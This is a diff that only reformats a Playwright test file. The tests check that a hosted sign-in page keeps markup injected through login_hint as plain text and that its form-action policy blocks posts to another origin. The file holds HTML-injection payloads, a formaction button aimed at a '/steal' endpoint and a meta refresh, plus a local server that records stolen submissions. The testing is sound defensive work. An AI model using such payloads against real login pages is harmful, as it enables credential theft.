@@ -25,10 +25,10 @@ let onStolen: () => void = () => {};
 
 beforeAll(async () => {
   if (!browserAvailable()) return;
-  app = await serveSite((url) => (url.pathname === '/callback' ? { body: '<!doctype html><title>app</title><h1>app</h1>' } : undefined));
+  app = await serveSite(url => (url.pathname === '/callback' ? { body: '<!doctype html><title>app</title><h1>app</h1>' } : undefined));
   attacker = await serveSite((url, req) => {
     let body = '';
-    req.on('data', (chunk) => (body += chunk));
+    req.on('data', chunk => (body += chunk));
     req.on('end', () => {
       stolen.push(`${req.method} ${url.pathname} ${body}`);
       onStolen();
@@ -42,7 +42,17 @@ beforeAll(async () => {
           Id: POOL,
           PoolName: 'html-injection',
           Domain: 'html-injection',
-          clients: [{ ClientId: CLIENT, ClientName: 'web', AllowedOAuthFlowsUserPoolClient: true, AllowedOAuthFlows: ['code'], AllowedOAuthScopes: ['openid'], CallbackURLs: [`${app.url}/callback`], SupportedIdentityProviders: ['COGNITO'] }],
+          clients: [
+            {
+              ClientId: CLIENT,
+              ClientName: 'web',
+              AllowedOAuthFlowsUserPoolClient: true,
+              AllowedOAuthFlows: ['code'],
+              AllowedOAuthScopes: ['openid'],
+              CallbackURLs: [`${app.url}/callback`],
+              SupportedIdentityProviders: ['COGNITO'],
+            },
+          ],
           users: [{ Username: 'olive', Password: 'Passw0rd!' }],
         },
       ],
@@ -69,7 +79,10 @@ function loginUrl(extra: Record<string, string> = {}): string {
 
 describe('the hosted sign-in page in Chromium', () => {
   const payloads: Array<[string, () => string]> = [
-    ['a formaction button and a meta refresh', () => `"><button formaction="${elsewhere()}/steal">x</button><meta http-equiv="refresh" content="0;url=${elsewhere()}/">`],
+    [
+      'a formaction button and a meta refresh',
+      () => `"><button formaction="${elsewhere()}/steal">x</button><meta http-equiv="refresh" content="0;url=${elsewhere()}/">`,
+    ],
     ['a formaction button alone', () => `"><button formaction="${elsewhere()}/steal">x</button><input type="hidden" value="`],
   ];
   it_.each(payloads)('markup in login_hint (%s) stays text: Enter signs in at the app, the other origin gets nothing', async (_name, make) => {
@@ -77,7 +90,7 @@ describe('the hosted sign-in page in Chromium', () => {
     stolen.length = 0;
     const context = await browser.newContext();
     const page = await context.newPage();
-    const reachedElsewhere = new Promise<'elsewhere'>((resolve) => (onStolen = () => resolve('elsewhere')));
+    const reachedElsewhere = new Promise<'elsewhere'>(resolve => (onStolen = () => resolve('elsewhere')));
     let prefilled: string | undefined;
     const signIn = (async () => {
       await page.goto(loginUrl({ login_hint: payload }));
@@ -85,7 +98,7 @@ describe('the hosted sign-in page in Chromium', () => {
       await page.fill('#username', 'olive');
       await page.fill('#password', 'Passw0rd!');
       await page.press('#password', 'Enter');
-      await page.waitForURL((u) => u.origin === app.url && u.pathname === '/callback');
+      await page.waitForURL(u => u.origin === app.url && u.pathname === '/callback');
       return 'callback' as const;
     })();
     signIn.catch(() => {}); // when the other origin wins the race, this one is left to fail on its own
@@ -103,9 +116,9 @@ describe('the hosted sign-in page in Chromium', () => {
     const page = await context.newPage();
     await page.goto(loginUrl());
     const violation = await page.evaluate(
-      (target) =>
-        new Promise<string>((resolve) => {
-          addEventListener('securitypolicyviolation', (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`), true);
+      target =>
+        new Promise<string>(resolve => {
+          addEventListener('securitypolicyviolation', event => resolve(`${event.effectiveDirective} ${event.blockedURI}`), true);
           const form = document.createElement('form');
           form.method = 'post';
           form.action = target;
@@ -118,7 +131,7 @@ describe('the hosted sign-in page in Chromium', () => {
         }),
       `${elsewhere()}/steal`,
     );
-    expect(violation).toMatch(new RegExp(`^form-action ${elsewhere().replace(/\./g, "\\.")}`));
+    expect(violation).toMatch(new RegExp(`^form-action ${elsewhere().replace(/\./g, '\\.')}`));
     // Still on the sign-in page; a real sign-in from a fresh one still reaches the app's callback
     // (its POST is answered by a 302 to the app, which form-action allows).
     expect(new URL(page.url()).pathname).toBe('/login');
@@ -126,7 +139,7 @@ describe('the hosted sign-in page in Chromium', () => {
     await page.fill('#username', 'olive');
     await page.fill('#password', 'Passw0rd!');
     await page.click('button[name="signInSubmitButton"]');
-    await page.waitForURL((u) => u.origin === app.url && u.pathname === '/callback');
+    await page.waitForURL(u => u.origin === app.url && u.pathname === '/callback');
     expect(stolen).toEqual([]);
     await context.close();
   });
